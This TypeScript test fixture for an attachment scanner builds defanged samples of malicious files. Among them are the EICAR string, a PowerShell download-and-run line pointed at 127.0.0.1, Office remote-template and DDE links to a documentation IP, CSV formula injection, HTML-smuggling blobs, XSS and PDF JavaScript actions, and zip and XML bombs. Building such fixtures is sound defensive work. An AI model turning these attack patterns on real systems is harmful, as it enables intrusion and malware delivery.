/** Harmless samples of everything that the attachment scanner must catch: each shows the sign, none can do anything. */
import { deflateSync, gzipSync } from "node:zlib";
import type { Danger } from "../../server/judge/attachments/finding.ts";
import { cab, cfb, elf, iso, pdf, pdfStream, pe, rar5, tar, tnef, zip } from "./containers.ts";

export type Sample = {
  readonly name: string;
  readonly bytes: Buffer;
  readonly type?: string;
  /** What must be among the findings. */
  readonly danger: Danger;
};

const text = (content: string): Buffer => Buffer.from(content);
const hex = (content: string): Buffer => Buffer.from(content.replace(/\s/g, ""), "hex");
const base64 = (content: string): Buffer => Buffer.from(content, "base64");
export const eicar = text(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*"].join(""));
const types = { name: "[Content_Types].xml", bytes: "<Types/>" };
const word = { name: "word/document.xml", bytes: "<w:document/>" };
const rels = (inner: string): string => `<?xml version="1.0"?><Relationships>${inner}</Relationships>`;
const external = (type: string, target: string): string =>
  rels(
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  );
const vba = (): Buffer => cfb([{ name: "VBA" }, { name: "dir", bytes: "x" }, { name: "_VBA_PROJECT", bytes: "x" }]);
const lnk = (): Buffer => Buffer.concat([hex("4c0000000114020000000000c000000000000046"), Buffer.alloc(80)]);
const page = (body: string): Buffer => text(`<!doctype html><html><body>${body}</body></html>`);
const hidden = Buffer.alloc(900, "harmless ").toString("base64");
const ole10 = (name: string, content: Buffer): Buffer => {
  const rest = Buffer.concat([
    text(`\x02\0${name}\0C:\\${name}\0\0\0\x03\0`),
    Buffer.from([1, 0, 0, 0, 0]),
    Buffer.from(Uint32Array.of(content.length).buffer),
    content,
  ]);
  return Buffer.concat([Buffer.from(Uint32Array.of(rest.length).buffer), rest]);
};
const boundSheet = (type: number): Buffer => {
  const bof = hex("0908 1000 0006 0500 0000000000000000 00000000");
  const sheet = Buffer.concat([hex("8500 0e00 00000000 00"), Buffer.from([type]), hex("06 00 5368656574 31")]);
  return Buffer.concat([bof, sheet, hex("0a000000")]);
};
const nested = (depth: number): Buffer => {
  let inner = zip([{ name: "a.txt", bytes: "x" }]);
  for (let i = 0; i < depth; i++) inner = zip([{ name: `${i}.zip`, bytes: inner }]);
  return inner;
};
/** One entry that says it is 4 GB. */
const boasting = (): Buffer => {
  const file = zip([{ name: "zeros.bin", bytes: Buffer.alloc(1024 * 1024) }]);
  const end = file.lastIndexOf("PK\u0005\u0006", Number.MAX_SAFE_INTEGER, "latin1");
  file.writeUInt32LE(0xfffffff0, file.readUInt32LE(end + 16) + 24);
  return file;
};
/** Many entries that share one body. */
const overlapping = (): Buffer => {
  const one = zip([{ name: "a.bin", bytes: Buffer.alloc(100_000) }]);
  const end = one.lastIndexOf("PK\u0005\u0006", Number.MAX_SAFE_INTEGER, "latin1");
  const directory = one.subarray(one.readUInt32LE(end + 16), end);
  const tail = Buffer.from(one.subarray(end));
  tail.writeUInt32LE(directory.length * 50, 12);
  return Buffer.concat([one.subarray(0, one.readUInt32LE(end + 16)), ...Array<Buffer>(50).fill(directory), tail]);
};
const vhd = (): Buffer => {
  const out = Buffer.alloc(4096);
  out.write("conectix", 4096 - 512);
  return out;
};
const utf16 = (content: string): Buffer => Buffer.concat([hex("fffe"), Buffer.from(content, "utf16le")]);
const gif = (rest: string): Buffer => Buffer.from(`GIF89a${rest}`, "latin1");
const calendar = (lines: string): Buffer =>
  text(`BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Talk\r\n${lines}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`);
const card = (lines: string): Buffer => text(`BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ann\r\n${lines}\r\nEND:VCARD\r\n`);
const oneNote = (content: Buffer): Buffer =>
  Buffer.concat([
    hex("e4525c7b8cd8a74daeb15378d02996d3"),
    Buffer.alloc(1008),
    hex("e716e3bd65261145a4c48d4d0b7a9eac"),
    Buffer.from(Uint32Array.of(content.length, 0).buffer),
    Buffer.alloc(12),
    content,
  ]);
const ooxml = (...files: readonly { name: string; bytes: Buffer | string }[]): Buffer => zip([types, word, ...files]);
const catalog = "<< /Type /Catalog /Pages 2 0 R >>";

const sample = (danger: Danger, name: string, bytes: Buffer, type?: string): Sample =>
  type === undefined ? { danger, name, bytes } : { danger, name, bytes, type };

/** Harmless company, so that a script among it looks like one of many. */
const letters = Array.from({ length: 6 }, (_, i) => ({ name: `letter ${i}.txt`, bytes: "Dear Ann," }));

export const dangerous: readonly Sample[] = [
  // ------------------------------------------------ in harmless company, and by newer names
  ...["js", "vbs", "wsf", "hta", "bat", "jse"].map((ending) =>
    sample("script", `letters with a ${ending}.zip`, zip([{ name: `invoice.${ending}`, bytes: "x = 1" }, ...letters])),
  ),
  sample("script", "letters.tar.gz", gzipSync(tar([{ name: "invoice.js", bytes: "x = 1" }, ...letters]))),
  ...["application", "appinstaller", "accde", "pyz", "wll", "msu", "vsto", "diagpkg"].map((ending) =>
    sample("executable", `new.${ending}`, text("<x/>")),
  ),
  ...["ahk", "a3x", "pyw"].map((ending) => sample("script", `new.${ending}`, text("x = 1"))),
  ...["webloc", "inetloc", "appcontent-ms"].map((ending) => sample("shortcut", `new.${ending}`, text("<x/>"))),
  sample("disguised", "invoice.js::$DATA", text("x = 1")),
  sample(
    "html-trap",
    "drawing.svg",
    text(
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="https://evil.test/"/></foreignObject></svg>',
    ),
  ),
  // ------------------------------------------------ the test file
  sample("malware", "eicar.com", eicar),
  sample("malware", "readme.txt", eicar),
  sample("malware", "eicar.zip", zip([{ name: "eicar.com", bytes: eicar }])),
  sample("malware", "twice.zip", zip([{ name: "inner.zip", bytes: zip([{ name: "a.txt", bytes: eicar }]) }])),
  sample("malware", "eicar.tar.gz", gzipSync(tar([{ name: "eicar.txt", bytes: eicar }]))),
  sample("malware", "eicar.rar", rar5([{ name: "eicar.txt", bytes: eicar }])),
  // ------------------------------------------------ programs, whatever they are called
  sample("executable", "setup.exe", pe()),
  sample("executable", "invoice.pdf", pe(), "application/pdf"),
  sample("disguised", "picture.jpg", pe(), "image/jpeg"),
  sample("executable", "tool", elf()),
  sample("executable", "app.bin", Buffer.concat([hex("cffaedfe0700000103000000"), Buffer.alloc(64)])),
  sample("executable", "universal", Buffer.concat([hex("cafebabe00000002"), Buffer.alloc(64)])),
  sample("executable", "Main.class", Buffer.concat([hex("cafebabe00000041"), Buffer.alloc(64)])),
  sample(
    "executable",
    "lib.jar",
    zip([
      { name: "META-INF/MANIFEST.MF", bytes: "Manifest-Version: 1.0\n" },
      { name: "Main.class", bytes: hex("cafebabe00000041") },
    ]),
  ),
  sample(
    "executable",
    "game.apk",
    zip([
      { name: "AndroidManifest.xml", bytes: "x" },
      { name: "classes.dex", bytes: "dex\n035\0" },
    ]),
  ),
  sample("executable", "package.dat", cfb([{ name: "Property", bytes: "x" }], "84100C0000000000C000000000000046")),
  sample("executable", "help.chm", Buffer.concat([text("ITSF"), Buffer.alloc(60)])),
  sample("executable", "saver.scr", Buffer.concat([text("MZ"), Buffer.alloc(60)])),
  sample("executable", "old.com", hex("b409ba0901cd21b44ccd21")),
  sample("executable", "movie.swf", Buffer.concat([text("FWS"), Buffer.from([10]), Buffer.alloc(60)])),
  sample("executable", "report.zip", zip([{ name: "report.exe", bytes: pe() }])),
  sample(
    "executable",
    "behind.zip",
    zip([
      ...Array.from({ length: 9 }, (_, i) => ({ name: `${i}.dat`, bytes: Buffer.alloc(10_000_000, `${i}`) })),
      { name: "photo.dat", bytes: pe() },
    ]),
  ),
  sample("executable", "hidden.zip", zip([{ name: "data.dat", bytes: pe() }], { store: true })),
  sample(
    "executable",
    "pictures.7z",
    base64(
      "N3q8ryccAATmp7lTIgAAAAAAAABaAAAAAAAAAAfcprXgAf8AGl0AJpZ8G4y7RC2Sw88onSU7dheDNiqfbCFWIAAAAQQGAAEJIgAHCwEAASEhAQAMggAACAoBW3p/aQAABQEZCwAAAAAAAAAAAAAAERUAcABoAG8AdABvAC4AZABhAHQAAAAUCgEAcZ9mwfl83QEVBgEAIICkgQAA",
    ),
  ),
  sample("executable", "pictures.rar", rar5([{ name: "photo.dat", bytes: pe() }])),
  sample("executable", "pictures.tar", tar([{ name: "photo.dat", bytes: pe() }])),
  sample("executable", "pictures.tgz", gzipSync(tar([{ name: "photo.dat", bytes: elf() }]))),
  sample(
    "executable",
    "pictures.tar.bz2",
    base64(
      "QlpoOTFBWSZTWTssklkAAH//5OgAAEBAAX8AggZAkGRA3gBAAAAIAACACCAAdBoieiAAyNDTR6gkoRo0NAAADnHtsPmsBA96SRewQiWyBW4kRUxJBg5Nd0ybYICGpgScBCpLjc1GCLcEY80cUjWTOTjPqjdhsKL7ZRXVGprF5EQH4u5IpwoSB2WSSyA=",
    ),
  ),
  sample(
    "executable",
    "pictures.tar.xz",
    base64(
      "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4Cf/AHpdADgaCkSJWxDH7FJQ/nvAr+d54hLeHQ3SctTwU+RGRKfTpJElxpqZ+uiMXnIR+3nCKo4v2wLeh+bDTKUJDj/xl5tq4u/H3ma1Q45/MQtRMh0uVaCQzepw+aEm+q8JUgISLNcipt9t1SirHP9lTLIxghq1aocrPvanqL/AAAAA0L+ELv+AmFsAAZYBgFAAALiQ77SxxGf7AgAAAAAEWVo=",
    ),
  ),
  sample(
    "executable",
    "payload.exe.xz",
    base64(
      "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AH/ABddACaWfBuMuxgbjDbO2rog7C8l3MF/C94AAABI7BRSFGvbOAABM4AEAAAAG4Y/f7HEZ/sCAAAAAARZWg==",
    ),
  ),
  sample("executable", "drivers.cab", cab([{ name: "photo.dat", bytes: pe() }])),
  sample("executable", "photo.dat.gz", gzipSync(pe())),
  sample("executable", "winmail.dat", tnef([{ name: "photo.dat", bytes: pe() }]), "application/ms-tnef"),
  // ------------------------------------------------ scripts and shortcuts
  sample("script", "run.js", text("var a = 1;")),
  sample("script", "notes.txt", text('var s = new ActiveXObject("Scripting.Dictionary");')),
  sample("script", "letter.vbs", text('MsgBox "hello"')),
  sample("script", "doc.txt", text('Set s = CreateObject("WScript.Network")')),
  sample("script", "clean.bat", text("@echo off\r\necho hello\r\n")),
  sample("script", "readme", text("@ECHO OFF\r\nrem nothing\r\n")),
  sample("script", "do.ps1", text("Write-Output 'hello'")),
  sample("script", "notes.md.txt", text("IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/nothing')")),
  sample(
    "script",
    "settings.txt",
    utf16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Sample]\r\n"),
  ),
  sample("script", "page.hta", page("<hta:application id=a>")),
  sample("script", "job.xml", text("<job id='a'><script language='JScript'>var a;</script></job>")),
  sample("script", "backup", text("#!/bin/sh\necho hello\n")),
  sample("script", "docs.zip", zip([{ name: "order.js", bytes: "var a = 1;" }])),
  sample("script", "launch.jnlp", text('<?xml version="1.0"?><jnlp spec="1.0+"></jnlp>')),
  sample("shortcut", "Documents.lnk", lnk()),
  sample("shortcut", "statement.pdf", lnk()),
  sample("shortcut", "folder.zip", zip([{ name: "Open me.pdf.lnk", bytes: lnk() }])),
  sample("shortcut", "site.txt", text("[InternetShortcut]\r\nURL=file://203.0.113.9/share/a.exe\r\n")),
  sample("shortcut", "find.search-ms", text("<?xml version='1.0'?><persistedQuery version='1.0'/>")),
  sample("shortcut", "query.iqy", text("WEB\r\n1\r\nhttp://127.0.0.1/nothing\r\n")),
  // ------------------------------------------------ names
  sample("disguised", "invoice.pdf.exe", pe()),
  sample("disguised", "photo.jpg          .scr", pe()),
  sample("disguised", "ann\u202Efdp.exe", pe()),
  sample("disguised", "plan\u202Etxt.js", text("var a;")),
  sample("disguised", "names.zip", zip([{ name: "report.docx.js", bytes: "var a;" }])),
  // ------------------------------------------------ bombs
  sample("bomb", "nested.zip", nested(12)),
  sample("bomb", "boasting.zip", boasting()),
  sample("bomb", "overlapping.zip", overlapping()),
  sample("bomb", "zeros.gz", gzipSync(Buffer.alloc(64 * 1024 * 1024))),
  sample(
    "bomb",
    "laughs.xml",
    text(
      `<?xml version="1.0"?><!DOCTYPE a [${Array.from({ length: 9 }, (_, i) => `\n<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("")}]><a>&l9;</a>`,
    ),
  ),
  // ------------------------------------------------ Office
  sample(
    "macro",
    "letter.doc",
    cfb([
      { name: "WordDocument", bytes: "x" },
      { name: "Macros" },
      { name: "VBA" },
      { name: "_VBA_PROJECT", bytes: "x" },
    ]),
  ),
  sample("macro", "table.xls", cfb([{ name: "Workbook", bytes: boundSheet(0) }, { name: "_VBA_PROJECT_CUR" }])),
  sample("macro", "sheet4.xls", cfb([{ name: "Workbook", bytes: boundSheet(1) }])),
  sample("macro", "letter.docm", ooxml({ name: "word/vbaProject.bin", bytes: vba() })),
  sample("macro", "renamed.docx", ooxml({ name: "word/vbaProject.bin", bytes: vba() })),
  sample(
    "macro",
    "sheet4.xlsm",
    zip([
      types,
      { name: "xl/workbook.xml", bytes: "<workbook/>" },
      { name: "xl/macrosheets/sheet1.xml", bytes: "<xm:macrosheet/>" },
    ]),
  ),
  sample("macro", "zipped.zip", zip([{ name: "a.docm", bytes: ooxml({ name: "word/vbaProject.bin", bytes: vba() }) }])),
  sample(
    "macro",
    "letter.odt",
    zip([
      { name: "mimetype", bytes: "application/vnd.oasis.opendocument.text" },
      { name: "Basic/Standard/Module1.xml", bytes: "<script:module/>" },
    ]),
  ),
  sample(
    "macro",
    "flat.xml",
    text(
      '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"></w:wordDocument>',
    ),
  ),
  sample(
    "office-trap",
    "template.docx",
    ooxml({ name: "word/_rels/settings.xml.rels", bytes: external("attachedTemplate", "http://203.0.113.9/a.dotm") }),
  ),
  sample(
    "office-trap",
    "object.docx",
    ooxml({
      name: "word/_rels/document.xml.rels",
      bytes: external("oleObject", "mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html"),
    }),
  ),
  sample(
    "office-trap",
    "field.docx",
    zip([
      types,
      {
        name: "word/document.xml",
        bytes: "<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\nothing</w:instrText></w:document>",
      },
    ]),
  ),
  sample(
    "office-trap",
    "link.xlsx",
    zip([
      types,
      { name: "xl/externalLinks/externalLink1.xml", bytes: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' },
    ]),
  ),
  sample("office-trap", "old.doc", cfb([{ name: "WordDocument", bytes: "\x13 DDEAUTO c:\\\\nothing \x15" }])),
  sample(
    "office-trap",
    "formula.doc",
    cfb([
      { name: "WordDocument", bytes: "x" },
      { name: "Equation Native", bytes: "x" },
    ]),
  ),
  sample(
    "office-trap",
    "formula.rtf",
    text(
      `{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b000000${text("Equation.3\0").toString("hex")}00000000}}}`,
    ),
  ),
  sample("office-trap", "template.rtf", text("{\\rtf1{\\*\\template http://203.0.113.9/a.dotm}}")),
  sample("office-trap", "table.csv", text("name,sum\r\n=cmd|'/c nothing'!A0,2\r\n")),
  sample(
    "executable",
    "packed.doc",
    cfb([
      { name: "WordDocument", bytes: "x" },
      { name: "\u0001Ole10Native", bytes: ole10("photo.dat", pe()) },
    ]),
  ),
  sample(
    "executable",
    "packed.docx",
    ooxml({
      name: "word/embeddings/oleObject1.bin",
      bytes: cfb([{ name: "\u0001Ole10Native", bytes: ole10("a.exe", pe()) }]),
    }),
  ),
  sample(
    "executable",
    "mail.msg",
    cfb([
      { name: "__substg1.0_3707001F", bytes: Buffer.from("photo.dat", "utf16le") },
      { name: "__substg1.0_37010102", bytes: pe() },
    ]),
  ),
  sample(
    "encrypted-document",
    "secret.docx",
    cfb([
      { name: "EncryptionInfo", bytes: "x" },
      { name: "EncryptedPackage", bytes: "x" },
    ]),
  ),
  sample("onenote", "notes.one", oneNote(text("hello"))),
  sample("executable", "trap.one", oneNote(pe())),
  // ------------------------------------------------ encrypted archives and disk images
  sample("encrypted", "secret.zip", zip([{ name: "figures.txt", bytes: "x", encrypted: true }])),
  sample(
    "encrypted",
    "secret.7z",
    base64(
      "N3q8ryccAAQ+lWh2IAAAAAAAAAByAAAAAAAAAF2P44pg7phTxTXFFRZIjSnF5w4dYaxbR8w3WHeaOYYXi0jtsQEEBgABCSAABwsBAAIkBvEHARJTDwLuwwl4/jfmIdnU4Br1Y6EhIQEAAQAMFBAACAoBFq60TAAABQEZAQARGQBmAGkAZwB1AHIAZQBzAC4AdAB4AHQAAAAZAgAAFAoBADHlasH5fN0BFQYBACCApIEAAA==",
    ),
  ),
  sample(
    "encrypted",
    "hidden.7z",
    base64(
      "N3q8ryccAAQR5bhFoAAAAAAAAAAvAAAAAAAAAJbL8Xw+4DECykwZUoZJT/u9cetAdfn/XWUkZ6FiF7yiXzbULNAULHjaWeMLNZpZKGf9VTS9qOo+RsROnXOfTiezpUs4VJdOHKDHMITdm12N29sbETckEa9rEx08dJLo+DiNwgoQHAW0QaElI38etTZ5ky68oZolhGBAfJYQ4qMr7+crkUxRtczPGki5eHWeYdOcZg9l9EBGP9t14LRJEFGH7EQ/FwYgAQmAgAAHCwEAASQG8QcBElMPEBppgzvcGXHt7Xhqt05j+QxyCgGx+0I7AAA=",
    ),
  ),
  sample("disk-image", "contract.iso", iso([{ name: "a.txt", bytes: "x" }])),
  sample("executable", "install.iso", iso([{ name: "photo.dat", bytes: pe() }])),
  sample("disk-image", "backup.vhd", vhd()),
  sample("disk-image", "backup.img", Buffer.concat([Buffer.alloc(54), text("FAT16   "), Buffer.alloc(1024)])),
  sample("disk-image", "backup.vhdx", Buffer.concat([text("vhdxfile"), Buffer.alloc(1024)])),
  // ------------------------------------------------ pages and drawings
  sample(
    "html-trap",
    "invoice.html",
    page(
      `<script>var d = atob("${hidden}"); var b = new Blob([d]); var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "a.zip"; a.click();</script>`,
    ),
  ),
  sample("html-trap", "voice.htm", page(`<a download="a.zip" href="data:application/zip;base64,${hidden}">here</a>`)),
  sample(
    "html-trap",
    "login.html",
    page('<form action="https://login.invalid/take"><input type="password" name="p"></form>'),
  ),
  sample(
    "html-trap",
    "go.html",
    text('<html><head><meta http-equiv="refresh" content="0;url=https://far.invalid/"></head></html>'),
  ),
  sample("html-trap", "document", page('<script>document.write(unescape("%3Cb%3E"))</script>'), "text/html"),
  sample(
    "html-trap",
    "zipped.zip",
    zip([
      {
        name: "a.html",
        bytes: page(`<script>var a=new Blob([atob("${hidden}")]);navigator.msSaveOrOpenBlob(a,"a.zip")</script>`),
      },
    ]),
  ),
  sample("html-script", "report.html", page("<script>alert(1)</script>")),
  sample("html-script", "handler.html", page("<img src=x onerror=alert(1)>")),
  sample("html-script", "link.html", page('<a href="&#106;avascript:alert(1)">here</a>')),
  sample(
    "html-script",
    "drawing.svg",
    text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "image/svg+xml",
  ),
  sample("html-script", "load.svg", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  sample(
    "html-script",
    "page.xhtml",
    utf16("<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
  ),
  // ------------------------------------------------ PDF
  sample(
    "pdf-trap",
    "form.pdf",
    pdf([
      `${catalog.slice(0, -2)} /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`,
      "<< /Type /Pages /Kids [] /Count 0 >>",
    ]),
  ),
  sample("pdf-trap", "escaped.pdf", pdf([`${catalog.slice(0, -2)} /OpenAction << /S /J#61vaScript /JS (x) >> >>`])),
  sample("pdf-trap", "launch.pdf", pdf([`${catalog.slice(0, -2)} /OpenAction << /S /Launch /F (nothing.exe) >> >>`])),
  sample(
    "pdf-trap",
    "packed.pdf",
    pdf([
      catalog,
      pdfStream(
        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        deflateSync(text("5 0 << /S /JavaScript /JS (x) >>")),
      ),
    ]),
  ),
  sample(
    "executable",
    "carrier.pdf",
    pdf([
      catalog,
      "<< /Type /Filespec /F (photo.dat) /EF << /F 3 0 R >> >>",
      pdfStream("/Type /EmbeddedFile /Filter /FlateDecode", deflateSync(pe())),
    ]),
  ),
  // ------------------------------------------------ two kinds at once
  sample("polyglot", "picture.gif", Buffer.concat([gif("\x01\0\x01\0\0\0\0;"), zip([{ name: "a.txt", bytes: "x" }])])),
  sample("polyglot", "comment.gif", gif("/*..*/=1;<script>alert(1)</script>")),
  sample("polyglot", "both.pdf", Buffer.concat([pdf([catalog]), zip([{ name: "a.txt", bytes: "x" }])])),
  sample(
    "polyglot",
    "photo.jpg",
    Buffer.concat([hex("ffd8ffe000104a464946"), text("<?php nothing(); ?>"), Buffer.alloc(100)]),
  ),
  // ------------------------------------------------ calendars and contacts
  sample("calendar-trap", "meeting.ics", calendar("ATTACH:file://203.0.113.9/share/agenda.doc"), "text/calendar"),
  sample(
    "calendar-trap",
    "alarm.ics",
    calendar("BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/nothing\r\nEND:VALARM"),
    "text/calendar",
  ),
  sample("calendar-trap", "link.ics", calendar("URL:search-ms:query=a&crumb=location:\\\\\\\\203.0.113.9")),
  sample(
    "executable",
    "attached.ics",
    calendar(`ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME="a.dat":${pe().toString("base64")}`),
  ),
  sample("calendar-trap", "ann.vcf", card("URL:javascript:alert(1)")),
  sample("executable", "bob.vcf", card(`PHOTO;ENCODING=b:${pe().toString("base64")}`)),
  // ------------------------------------------------ messages within
  sample(
    "executable",
    "forwarded.eml",
    text(
      `From: a@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=photo.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n${pe().toString("base64")}\r\n`,
    ),
  ),
  sample("fragment", "part1", text("x"), "message/partial"),
];
